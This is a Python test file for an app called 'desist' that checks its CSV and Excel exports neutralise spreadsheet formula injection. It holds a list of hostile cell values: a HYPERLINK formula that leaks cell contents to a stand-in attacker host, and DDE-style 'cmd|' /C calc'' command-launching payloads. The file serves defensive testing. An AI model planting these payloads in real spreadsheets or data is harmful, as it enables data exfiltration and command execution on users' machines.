"""Every CSV and Excel file desist writes neutralises formula injection (issue 10, item 10).

Hostile text goes in where users and agencies can put it (a person's names, a district's name, an extract's
column names and values, a source record id) and every export is read back as a spreadsheet would read it:
no cell may begin with = + - @, a tab or a carriage return unless it is a plain number."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pyarrow as pa
import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from desist.audit.context import system_actor
from desist.board import selectors as board_selectors
from desist.core.cells import FORMULA_STARTS
from desist.core.linkage.command import write_links, write_review
from desist.families.services import families_refresh
from desist.imports import importing
from desist.imports import services as imports
from desist.imports.extracts import ExtractFile
from desist.offences import services as offences
from desist.partnership.models import Role
from desist.people import services as people
from tests.app import builders
from tests.app.board.figures import store_figures
from tests.app.builders import TODAY

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")
# Every URL that answers with a CSV or Excel file, and every module that writes one. A new export must be
# added here (and use desist.core.cells), or test_every_export_is_walked fails.
EXPORT_URLS = {"board_export", "families_overlap", "import_problems_csv"}
# Downloads that no spreadsheet reads, and why.
NOT_SPREADSHEET_URLS = {
    "subject_access_export": "a zip of one PDF and one JSON file (desist.subject_access.export)",
}
WRITERS = {"board/views.py", "families/views.py", "imports/importing.py", "core/linkage/command.py"}
NOT_FOR_SPREADSHEETS = {
    "core/basket/inputs.py": "hashes its own CSV text, never written out",
    "demo/extracts.py": "hands generated extracts to the importer in memory, never written out",
    "core/synth/writer.py": "writes generated synthetic tables only",
}


def assert_no_formula(rows: list[list[Any]], where: str) -> int:
    cells = 0
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and cell:
                cells += 1
                assert cell[0] not in FORMULA_STARTS or PLAIN_NUMBER.fullmatch(cell), f"{where}: {cell!r}"
    return cells


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def hostile(partnership) -> Any:
    """People named with formulas, in a district named with one, in one family, cautioned in the last
    quarter."""
    partnership.medway.name = HOSTILE[0]
    partnership.medway.save()
    builders.offence_code("04600", "Theft (non-motor)", 0.0)
    quarter = board_selectors.latest_quarter()
    coordinator = partnership.user("cara.coordinator", partnership.housing, role="coordinator")
    analyst = partnership.user("ana.analyst", partnership.housing, Role.ANALYST)
    members = [
        builders.person(
            first_name=first,
            last_name=last,
            district=partnership.medway,
            involved=[(partnership.housing, None)],
        )
        for first, last in zip(HOSTILE, reversed(HOSTILE), strict=True)
    ]
    for member in members:
        people.address_add(
            actor=system_actor(),
            person=member,
            line1="12 Rope Walk",
            town="Chatham",
            postcode="ME4 4AA",
            from_date=TODAY - timedelta(days=900),
            district_id=partnership.medway.pk,
        )
        day = quarter.start + timedelta(days=5)
        offences.offence_record(
            actor=system_actor(),
            person=member,
            offence_code="04600",
            offence_date=day,
            outcome="caution",
            outcome_date=day,
        )
    people.relationship_record(
        actor=system_actor(), person=members[1], related_person=members[0], kind="parent"
    )
    families_refresh(actor=system_actor())
    store_figures()
    yield SimpleNamespace(coordinator=coordinator, analyst=analyst, members=members)


def test_families_csv_neutralises_hostile_names(client, hostile):
    client.force_login(hostile.coordinator)
    for show in ("families", "people"):
        response = client.get(reverse("families_overlap"), {"format": "csv", "show": show})
        assert response["Content-Type"].startswith("text/csv")
        rows = read_csv(b"".join(response.streaming_content))
        text = "\n".join(",".join(row) for row in rows)
        assert "HYPERLINK(" in text and "@SUM(" in text  # shown as written
        assert assert_no_formula(rows, f"families {show}") > 10


def test_board_csv_and_excel_neutralise_a_hostile_district_name(client, hostile):
    client.force_login(hostile.analyst)
    rows = read_csv(client.get(reverse("board_export", args=["csv"]), {"district": HOSTILE[0]}).content)
    assert any(f"'{HOSTILE[0]}" in row for row in rows)
    assert assert_no_formula(rows, "board csv") > 50
    numbers = [row[9] for row in rows[1:] if row[9]]
    assert numbers and all(not n.startswith("'") for n in numbers)  # figures stay figures
    xlsx = client.get(reverse("board_export", args=["xlsx"]), {"district": HOSTILE[0]})
    book = load_workbook(io.BytesIO(xlsx.content))
    for sheet in book.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), sheet.title
        assert_no_formula([list(r) for r in sheet.iter_rows(values_only=True)], f"board xlsx {sheet.title}")
    figures = [list(r) for r in book["Figures"].iter_rows(values_only=True)]
    assert any(f"'{HOSTILE[0]}" in row for row in figures)


def test_the_import_problems_file_neutralises_hostile_columns_and_values(partnership):
    header = ["Client ID", "Surname", HOSTILE[1]]
    # A date of birth that cannot be read is a problem (a postcode outside the UK format is only a note).
    rows = [[HOSTILE[2], HOSTILE[3], "x"], ["H2", "", "1990-01-02"]]
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    mapping = imports.mapping_save(
        actor=builders.actor(),
        agency=partnership.housing,
        record_id_column="Client ID",
        date_format="auto",
        columns={"Surname": "last_name", HOSTILE[1]: "date_of_birth"},
    )
    report = importing.import_validate(
        agency=partnership.housing,
        mapping=mapping,
        file=ExtractFile(name="housing.csv", content=out.getvalue().encode()),
    )
    assert report.problems
    problems = read_csv(report.problems_csv().encode())
    assert problems[0] == ["row", "column", "problem"]
    assert_no_formula(problems, "import problems")
    assert ["2", f"'{HOSTILE[1]}"] == problems[1][:2]


def test_desist_link_output_files_neutralise_hostile_record_ids(tmp_path: Path):
    ids = HOSTILE[:2]
    result = SimpleNamespace(
        assignments=pa.table(
            {
                "source": ["police", "housing"],
                "record_id": ids,
                "person_id": [1, 1],
                "match_weight": [12.5, None],
                "outcome": ["linked", "linked"],
            }
        ),
        review_pairs=[
            SimpleNamespace(
                left=("police", HOSTILE[2]),
                right=("housing", HOSTILE[3]),
                match_weight=-1.25,
                left_person_id=1,
                right_person_id=2,
                agreement={"first_name": SimpleNamespace(level="=1+1")},
            )
        ],
    )
    write_links(result, tmp_path / "links.csv")
    write_review(result, tmp_path / "review.csv")
    links = read_csv((tmp_path / "links.csv").read_bytes())
    review = read_csv((tmp_path / "review.csv").read_bytes())
    assert [row[1] for row in links[1:]] == [f"'{i}" for i in ids]
    assert review[1][4] == "-1.250"  # a negative weight is still a number
    assert_no_formula(links + review, "desist link")


def test_every_export_is_walked():
    """A URL whose name or route says it downloads a file, and any module that writes CSV or Excel, must be
    in this file's lists: a new export cannot skip the formula check."""
    found = set()
    for pattern in get_resolver().url_patterns:
        for sub in getattr(pattern, "url_patterns", [pattern]):
            name, route = getattr(sub, "name", "") or "", str(sub.pattern)
            if re.search(r"csv|xlsx|export|download|figures\.", f"{name} {route}"):
                found.add(name)
    assert found <= EXPORT_URLS | set(NOT_SPREADSHEET_URLS), found - EXPORT_URLS - set(NOT_SPREADSHEET_URLS)
    src = Path(__file__).resolve().parents[2] / "src" / "desist"
    writers = set()
    for path in src.rglob("*.py"):
        text = path.read_text()
        if re.search(r"csv\.(?:writer|DictWriter)\(|Workbook\(|write_csv\(", text):
            writers.add(path.relative_to(src).as_posix())
    assert writers - set(NOT_FOR_SPREADSHEETS) == WRITERS
    for name in WRITERS:
        assert "from desist.core.cells import safe_row" in (src / name).read_text(), name
